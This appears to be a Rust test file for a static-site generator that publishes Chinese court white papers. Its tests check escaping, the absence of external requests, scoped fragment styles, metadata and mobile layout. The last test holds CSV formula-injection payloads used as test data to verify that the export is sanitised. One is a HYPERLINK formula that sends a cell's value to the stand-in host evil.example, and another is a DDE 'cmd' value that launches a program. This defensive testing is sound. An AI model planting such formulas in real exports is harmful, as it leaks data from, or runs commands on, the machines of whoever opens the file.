//! The site and the fragment: what a reader's browser gets.

use crate::common::*;

#[test]
fn the_site_requests_nothing_from_other_hosts() {
    let dir = example();
    assert!(gazette(&["build"], dir.path()).status.success());
    let html = index_html(dir.path());
    for attr in ["src=\"http", "href=\"http", "src=\"//", "href=\"//", "@import", "url(http"] {
        assert!(!html.contains(attr), "{attr}");
    }
    let css = std::fs::read_to_string(dir.path().join("output/site/assets/style.css")).unwrap();
    assert!(!css.contains("url(") && !css.contains("@import"));
}

#[test]
fn the_basic_fixture_renders_as_snapshotted() {
    let dir = paper("valid/basic");
    let o = gazette(&["build"], dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let html = index_html(dir.path());
    let main = &html[html.find("<main").unwrap()..html.find("</main>").unwrap() + 7];
    insta::assert_snapshot!("basic_main", main);
    assert!(!html.contains("<script"), "raw HTML must be escaped");
    assert!(html.contains("&lt;script&gt;"));
    assert!(html.contains("来源：调解平台 &lt;统计&gt;"), "YAML values are escaped in attributes");
    assert_eq!(
        std::fs::read(dir.path().join("output/site/media/images/seal.svg")).unwrap(),
        std::fs::read(fixtures().join("valid/basic/content/images/seal.svg")).unwrap()
    );
}

#[test]
fn a_theme_replaces_single_files_and_its_template_errors_are_located() {
    let dir = paper("valid/basic");
    let theme = dir.path().join("themes/court/assets");
    std::fs::create_dir_all(&theme).unwrap();
    std::fs::write(theme.join("style.css"), "body { color: black; }\n").unwrap();
    std::fs::write(theme.join("logo.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n").unwrap();
    let config = dir.path().join("gazette.yaml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("theme: court\n");
    std::fs::write(&config, text).unwrap();
    let o = gazette(&["build"], dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let css = std::fs::read_to_string(dir.path().join("output/site/assets/style.css")).unwrap();
    assert_eq!(css, "body { color: black; }\n");
    assert!(dir.path().join("output/site/assets/logo.svg").is_file());
    assert!(
        index_html(dir.path()).contains(
            "<h1 style=\"--title-em: 11.0\"><span class=\"title-line\">行政审判白皮书（测试）</span></h1>"
        ),
        "the built-in page template still serves"
    );

    let templates = dir.path().join("themes/court/templates");
    std::fs::create_dir_all(&templates).unwrap();
    std::fs::write(templates.join("page.html"), "<html>\n<body>\n{{ title }\n</body>\n").unwrap();
    let o = gazette(&["build"], dir.path());
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("┌─ themes/court/templates/page.html:3:"), "{}", stderr(&o));
}

#[test]
fn the_fragment_is_the_article_alone_with_inline_charts_and_no_script() {
    let dir = example();
    assert!(gazette(&["build"], dir.path()).status.success());
    let fragment = std::fs::read_to_string(dir.path().join("output/fragment.html")).unwrap();
    assert!(fragment.starts_with("<div class=\"gazette-article\""));
    for figure in SEED_FIGURES {
        assert!(fragment.contains(&format!(">{figure}</span>")), "{figure}");
    }
    assert!(fragment.contains("<svg ") && fragment.contains("role=\"img\""), "charts are inline SVG");
    assert!(!fragment.contains("<script") && !fragment.contains("<img src=\"charts/"));
    for external in ["src=\"http", "href=\"http", "url(", "@import", "<link"] {
        assert!(!fragment.contains(external), "{external}");
    }
    for rule in fragment[fragment.find("<style>").unwrap() + 7..fragment.find("</style>").unwrap()]
        .lines()
        .filter(|l| !l.is_empty())
    {
        // `@media (…){.gazette-article a{…}.gazette-article b{…}}`: each rule inside scoped too.
        let rules = match rule.strip_prefix("@media ") {
            Some(media) => {
                media[media.find('{').unwrap() + 1..media.len() - 1].split_inclusive('}').collect()
            }
            None => vec![rule],
        };
        for rule in rules {
            assert!(rule.starts_with(".gazette-article"), "unscoped style rule: {rule}");
        }
    }
    // Each chart drawn twice, the narrow drawing hidden but on a phone (as on the site), and
    // hidden by itself where an editor drops the stylesheet.
    let charts = fragment.matches("<svg ").count();
    assert_eq!(fragment.matches("<div class=\"chart-wide\"><svg ").count() * 2, charts);
    assert_eq!(
        fragment.matches("<div class=\"chart-narrow\" style=\"display:none\"><svg ").count() * 2,
        charts
    );
    assert!(fragment.contains(
        "@media (max-width:36rem){.gazette-article .chart-wide{display:none}.gazette-article .chart-narrow{display:block!important}}"
    ));
}

#[test]
fn the_fragment_embeds_images_the_site_links_from_one_rendering() {
    let dir = paper("valid/basic");
    // Private-use characters typed in a chapter are text, never taken for the stand-ins
    // that mark where the site and the fragment put charts and images.
    let chapter = dir.path().join("content/02-outlook.md");
    let text = std::fs::read_to_string(&chapter).unwrap();
    std::fs::write(&chapter, format!("{text}\n私用区字符\u{E012}0\u{E013}照录。\n")).unwrap();
    // The site alone: no font has these characters, which the PDF refuses.
    let o = gazette(&["build", "--only", "site"], dir.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let html = index_html(dir.path());
    let fragment = std::fs::read_to_string(dir.path().join("output/fragment.html")).unwrap();
    assert!(html.contains("<img src=\"media/images/seal.svg\" alt=\""), "the site links the image");
    assert!(fragment.contains("<img src=\"data:image/svg+xml;base64,"), "the fragment embeds the image");
    assert!(!fragment.contains("src=\"media/"));
    for page in [&html, &fragment] {
        assert!(page.contains("私用区字符&#xE012;0&#xE013;照录。"), "stand-in characters print as text");
    }
}

#[test]
fn the_page_carries_metadata_and_a_relative_pdf_link() {
    let dir = example();
    let config = dir.path().join("gazette.yaml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("base_url: https://court.example.cn/wp/2024\nkeywords: [府院联动, 行政审判]\n");
    std::fs::write(&config, text).unwrap();
    assert!(gazette(&["build"], dir.path()).status.success());
    let html = index_html(dir.path());
    for meta in [
        "<meta name=\"ArticleTitle\" content=\"深化府院联动　服务法治崂山\">",
        "<meta name=\"PubDate\" content=\"2024-07-19 00:00\">",
        "<meta name=\"ContentSource\" content=\"崂山区人民法院\">",
        "<meta property=\"og:title\" content=\"深化府院联动　服务法治崂山\">",
        "<meta property=\"og:url\" content=\"https://court.example.cn/wp/2024/\">",
        "<link rel=\"canonical\" href=\"https://court.example.cn/wp/2024/\">",
        "<meta name=\"keywords\" content=\"府院联动,行政审判\">",
        "<a href=\"laoshan-2024.pdf\" download>",
    ] {
        assert!(html.contains(meta), "missing {meta}");
    }
    assert!(dir.path().join("output/site/laoshan-2024.pdf").is_file(), "the PDF is beside the page");
    for href in html.split("href=\"").skip(1).map(|s| &s[..s.find('"').unwrap()]) {
        assert!(!href.starts_with('/') && !href.starts_with("../"), "internal link `{href}` is not relative");
    }
}

#[test]
fn a_draft_is_marked_on_every_page_and_a_published_paper_is_not() {
    let dir = paper("valid/basic");
    assert!(gazette(&["build"], dir.path()).status.success());
    assert!(!index_html(dir.path()).contains("征求意见稿"));
    let config = dir.path().join("gazette.yaml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("status: draft\n");
    std::fs::write(&config, text).unwrap();
    assert!(gazette(&["build"], dir.path()).status.success());
    assert!(index_html(dir.path()).contains("<p class=\"draft-mark\" role=\"note\">征求意见稿</p>"));
    if let Some(text) = pdf_text(&dir.path().join("output/basic.pdf")) {
        let pages: Vec<&str> = text.split('\u{c}').filter(|p| !p.trim().is_empty()).collect();
        assert!(pages.len() >= 3);
        for (i, page) in pages.iter().enumerate() {
            assert!(page.contains("征求意见稿"), "page {} has no draft mark", i + 1);
        }
    }
}

/// What keeps the page whole on a phone, in the second real paper: its title, broken where
/// its YAML breaks it, sized by its longest line (10 characters); long figures that may
/// break before their number (Chinese) or between their words (English) but never inside
/// number and unit; 数据说明 rows that stack, each cell named by its column.
#[test]
fn titles_long_figures_and_tables_are_ready_for_a_phone() {
    let dir = real_paper("shandong-2022");
    assert!(gazette(&["build", "--only", "site"], dir.path()).status.success());
    let html = index_html(dir.path());
    assert!(html.contains("<h1 style=\"--title-em: 10.0\"><span class=\"title-line\">2022年度山东法院</span><br><span class=\"title-line\">行政案件司法审查报告</span></h1>"));
    assert!(html.contains("<table class=\"stack\">\n<caption>本文所用数据的含义、统计期间和来源</caption>"));
    assert!(html.contains("<td data-label=\"来源\">《人民法院报》2023年7月20日</td>"), "{html}");
    // 同比下降 may end a line; 3.95个百分点, number and unit, may not be split.
    assert!(html.contains("同比下降<span class=\"nb\">3.95个百分点</span></span>"));

    assert!(gazette(&["build", "--only", "site", "--locale", "en"], dir.path()).status.success());
    let html = read(dir.path(), "output/en/site/index.html");
    let long = html
        .find("<span class=\"fig long\" data-metric=\"first_instance_loss_rate\"")
        .expect("a long figure");
    let after = &html[long..];
    assert!(
        after[after.find('>').unwrap()..]
            .starts_with("><span class=\"nb\">down 3.95 percentage</span> points year on year</span>"),
        "{}",
        &after[..300]
    );
    let css = read(dir.path(), "output/en/site/assets/style.css");
    assert!(
        css.contains(".fig.long { white-space: normal; }")
            && css.contains(".fig .nb { white-space: nowrap; }")
    );
    assert!(!css.contains("position: fixed"), "the draft band is no fixed badge over the title");
}

#[test]
fn metrics_csv_cannot_run_a_formula_in_the_spreadsheet_that_opens_it() {
    let hostile = [
        ("f_eq", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"),
        ("f_plus", "+1+cmd|' /C calc'!A0"),
        ("f_minus", "-2+3"),
        ("f_at", "@SUM(1+1)*cmd"),
    ];
    let mut yaml = String::new();
    for (id, label) in hostile {
        let label = label.replace('\'', "''");
        yaml.push_str(&format!("{id}:\n  label: '{label}'\n  value: -5\n  unit: '%'\n  bounds: [-100, 100]\n  source: '=1+2'\n  note: '-x'\n"));
    }
    let paper = PaperTest::fixture("valid/basic").with_file("content/metrics/hostile.yaml", &yaml);
    let run = paper.run(&["build", "--only", "site"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let bytes = std::fs::read(paper.path().join("output/data/metrics.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
    let mut seen = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for field in &record {
            // What a spreadsheet looks at: the field's first character.
            let plain_number = field.parse::<f64>().is_ok();
            let first = field.chars().next().unwrap_or(' ');
            assert!(plain_number || !"=+-@\t\r\n".contains(first), "a spreadsheet would run `{field}`");
        }
        if hostile.iter().any(|(id, _)| record.get(0) == Some(id)) {
            seen += 1;
            assert!(record.get(1).unwrap().starts_with('\''), "{record:?}");
            assert_eq!(record.get(2), Some("-5"), "a negative number stays a number: {record:?}");
        }
    }
    assert_eq!(seen, hostile.len());
    // The JSON keeps the labels exactly.
    let json = paper.read("output/data/metrics.json");
    assert!(json.contains(r#""label": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")""#), "{json}");
}
